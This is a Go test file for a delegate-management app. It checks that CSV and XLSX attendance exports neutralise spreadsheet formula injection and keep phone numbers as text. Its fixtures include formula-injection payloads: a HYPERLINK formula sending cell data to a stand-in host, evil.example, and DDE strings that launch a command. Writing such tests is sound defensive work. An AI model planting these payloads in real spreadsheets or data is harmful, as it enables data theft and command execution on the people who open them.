package docs

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/xuri/excelize/v2"

	"doithoai/store"
	"doithoai/store/sheet"
)

// Names an attacker puts in a delegates file so that the attendance list
// runs them in Excel.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Bấm")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

// A hostile row round-trips through the csv and the xlsx attendance
// lists: in the csv every formula cell starts with ', the phone keeps its
// zero and is no formula; in the xlsx every text is a string cell with no
// formula, holding exactly what was stored. Our own import reads the csv
// back to the same names.
func TestExportsNeverCarryFormulas(t *testing.T) {
	st, _ := demo(t)
	ctx := context.Background()
	for i, f := range formulas {
		if _, err := st.RegisterWalkIn(ctx, store.WalkIn{FullName: f, Title: formulas[(i+1)%len(formulas)], UnitName: "=1+1 Xã " + f[:3],
			Phone: []string{"0912 345 678", "+84 387 659 951", "+33 1 23 45 67 89", "02323824567"}[i]}); err != nil {
			t.Fatal(err)
		}
	}
	s, err := Load(ctx, st)
	if err != nil {
		t.Fatal(err)
	}
	o := Options{WithContacts: true}

	data := render(t, s, Attendance, CSV, o)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	phoneCol := slices.Index(recs[0], "Điện thoại")
	if phoneCol < 0 {
		t.Fatal("no phone column")
	}
	seen := 0
	var phones []string
	for _, r := range recs[1:] {
		for j, c := range r {
			if c != "" && bytes.IndexByte([]byte("=+-@\t\r"), c[0]) >= 0 {
				t.Errorf("csv cell %q starts a formula", c)
			}
			if j == phoneCol && c != "" {
				phones = append(phones, c)
			}
		}
		if slices.Contains(formulas, r[2][min(1, len(r[2])):]) {
			seen++
			if r[2][0] != '\'' {
				t.Errorf("name %q not neutralised", r[2])
			}
		}
	}
	if seen != len(formulas) {
		t.Fatalf("found %d of the hostile names in the csv", seen)
	}
	for _, want := range []string{"0912 345 678", "0387 659 951", "0033 1 23 45 67 89", "0232 3824 567"} {
		if !slices.Contains(phones, want) {
			t.Errorf("phone %q not in the csv: %q", want, phones)
		}
	}
	// our own import reads the exported csv back as it was stored
	sh, err := sheet.ReadCSV(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	back := 0
	for _, r := range sh[0].Rows {
		if slices.Contains(formulas, r.Cells[2]) {
			back++
		}
	}
	if back != len(formulas) {
		t.Errorf("the import reads back %d of the names", back)
	}

	x, err := excelize.OpenReader(bytes.NewReader(render(t, s, Attendance, XLSX, o)))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows("Danh sách")
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for ri, r := range rows {
		for ci, v := range r {
			cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
			if f, _ := x.GetCellFormula("Danh sách", cell); f != "" {
				t.Errorf("%s holds the formula %q", cell, f)
			}
			if !slices.Contains(formulas, v) && v != "0912345678" && v != "+33 1 23 45 67 89" {
				continue
			}
			found++
			if typ, _ := x.GetCellType("Danh sách", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s %q is of type %v, not a string", cell, v, typ)
			}
		}
	}
	if found < 2*len(formulas)+2 { // names, titles and two phones
		t.Errorf("found %d hostile cells in the xlsx", found)
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"Nguyễn": "Nguyễn", "": "", "'=x": "'=x", "1-2": "1-2",
	} {
		if got := sheet.SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"0912345678": "0912 345 678", "02323824567": "0232 3824 567", "+33 1 23": "0033 1 23",
		"": "", "=1+1": "'=1+1", "+=1": "'+=1", "123": "123",
	} {
		if got := sheet.PhoneCell(in); got != want {
			t.Errorf("PhoneCell(%q) = %q, want %q", in, got, want)
		}
	}
}
